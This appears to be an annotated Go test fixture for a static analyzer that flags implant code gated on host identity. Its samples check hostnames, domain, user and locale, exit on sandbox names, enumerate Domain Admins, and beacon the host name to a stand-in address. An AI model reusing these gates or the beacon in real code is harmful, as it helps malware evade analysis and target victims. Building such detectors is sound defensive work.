// Annotated samples for the remote-collection pack (Go): an implant that only activates on
// chosen hosts and stays quiet in sandboxes and some locales.
package main

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"log"
	"net"
	"os"
	"os/exec"
	"os/user"
	"strings"
	"syscall"
)

var (
	kernel32                 = syscall.NewLazyDLL("kernel32.dll")
	procGetUserDefaultLangID = kernel32.NewProc("GetUserDefaultLangID")
)

// isTarget activates only on the finance department's machines.
func isTarget() bool {
	host, err := os.Hostname()
	if err != nil {
		return false
	}
	return strings.HasPrefix(strings.ToUpper(host), "FIN-") // want "remote-collection/host-gated"
}

// sandboxNames exits on analysis machines.
func sandboxNames() {
	name, _ := os.Hostname()
	switch strings.ToLower(name) {
	case "sandbox", "malware-pc", "john-pc", "win7-analysis": // want "remote-collection/host-gated"
		os.Exit(0)
	}
}

// exactHost compares with ==.
type Agent struct {
	host string
	conn net.Conn
}

func (a *Agent) init() {
	a.host, _ = os.Hostname()
}

func (a *Agent) stage() {
	if a.host == "DC01.corp.example.com" { // want "remote-collection/host-gated"
		exec.Command("cmd.exe", "/C", "net group \"Domain Admins\" /domain").Run()
	}
}

// hashGate compares a hash of the host name, so the target's name is not in the binary.
func hashGate() bool {
	h, _ := os.Hostname()
	sum := sha256.Sum256([]byte(strings.ToLower(h)))
	return hex.EncodeToString(sum[:]) == "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8" // want "remote-collection/host-gated"
}

// domainGate uses the USERDOMAIN environment variable.
func domainGate() bool {
	return os.Getenv("USERDOMAIN") == "ACME" // want "remote-collection/host-gated"
}

// userGate looks at the current user.
func userGate() bool {
	u, err := user.Current()
	if err != nil {
		return false
	}
	return strings.EqualFold(u.Username, `ACME\cfo`) // want "remote-collection/host-gated"
}

// localeGate avoids Russian-language systems.
func localeGate() bool {
	lang, _, _ := procGetUserDefaultLangID.Call()
	return lang&0x3ff == 0x19 // want "remote-collection/host-gated"
}

// langEnv does the same on Linux from the environment.
func langEnv() bool {
	return strings.HasPrefix(os.Getenv("LANG"), "ru_RU") // want "remote-collection/host-gated"
}

// report sends the host name: telemetry, but nothing is gated on it.
func (a *Agent) report() {
	fmt.Fprintf(a.conn, "HOST %s\n", a.host) // ok: the host name is sent, not compared
	log.Printf("reported %s", a.host)
}

// emptyCheck only checks for a missing host name.
func emptyCheck() string {
	h, _ := os.Hostname()
	if h == "" {
		h = "unknown"
	}
	return h
}

// configured compares with a value from the configuration, not a constant.
func configured(allowed string) bool {
	h, _ := os.Hostname()
	return strings.EqualFold(h, allowed) // ok: compared with a configured value, not a constant
}

// lengthCheck looks only at the length of the name.
func lengthCheck() bool {
	h, _ := os.Hostname()
	return len(h) > 15 // ok: a length, not a name
}

// argGate compares a command-line argument: no host data.
func argGate() bool {
	return len(os.Args) > 1 && os.Args[1] == "--force" // ok: a local argument
}

// debugMode reads a configuration variable: not the machine's identity.
func debugMode() bool {
	return os.Getenv("AGENT_DEBUG") == "1" || os.Getenv("AGENT_MODE") == "verbose" // ok: configuration, not targeting
}

func main() {
	sandboxNames()
	debugMode()
	if !hashGate() {
		return
	}
	if !isTarget() || domainGate() || userGate() || localeGate() || langEnv() {
		if !argGate() {
			return
		}
	}
	conn, err := net.Dial("tcp", "203.0.113.80:443")
	if err != nil {
		return
	}
	a := &Agent{conn: conn}
	a.init()
	a.stage()
	a.report()
	emptyCheck()
	configured(os.Getenv("AGENT_HOST"))
	lengthCheck()
}
